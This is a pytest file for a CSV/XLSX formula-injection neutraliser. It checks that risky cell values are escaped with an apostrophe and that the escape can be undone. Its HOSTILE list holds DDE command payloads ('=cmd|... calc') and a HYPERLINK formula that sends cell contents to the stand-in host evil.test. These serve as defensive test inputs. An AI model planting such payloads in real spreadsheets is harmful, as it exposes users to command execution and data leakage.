"""Formulas are kept from running, numbers and telephone numbers are left alone, all undone."""

from __future__ import annotations

import random

import pytest

from tenants.files.neutralise import for_csv, for_xlsx, plain

HOSTILE = [
    '=cmd|"/C calc"!A0', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1",
    "\uff1d1+1", "\uff0b1a", "\uff0d1a",
    "\uff20SUM(1)", '=HYPERLINK("http://evil.test?x="&A1,"Click")', "=1+1\n=2+2", '"=1+1', "'=1+1",
    "''=1+1", "+65abc", "@handle", "=", "\x01=1+1", "=" * 40_000,
]  # fmt: skip
HARMLESS = [
    "", "ACME PTE. LTD.", "+65 6123 4567", "+6561234567", "(+65) 6123-4567", "-12.5", "12", "1-2",
    "'TIS A NAME", "$1 SHOP", "a=b", "x@y.sg", "#22-20", "100%", "日本=語", "--", "-",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_what_may_be_a_formula_gets_an_apostrophe_that_can_be_taken_away_again(text):
    cell = for_csv(text)

    assert cell == text if text.startswith('"') else cell == f"'{text}"
    assert plain(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_names_numbers_and_telephone_numbers_stay_as_they_are(text):
    assert for_csv(text) == plain(text) == text


def test_any_text_comes_back_as_it_was():
    chance = random.Random(1)
    for _ in range(20_000):
        text = "".join(
            chance.choice("='+-@ \t\r\n1a\ufeff\uff1d") for _ in range(chance.randint(0, 6))
        )
        assert plain(for_csv(text)) == text


def test_what_xml_cannot_carry_is_shown_as_a_replacement():
    assert for_xlsx("a\x01b\x0cc\x1f\ud800") == "a\ufffdb\ufffdc\ufffd\ufffd"
    assert for_xlsx("tab\tand\nline") == "tab\tand\nline"
    assert len(for_xlsx("x" * 50_000)) == 32_767
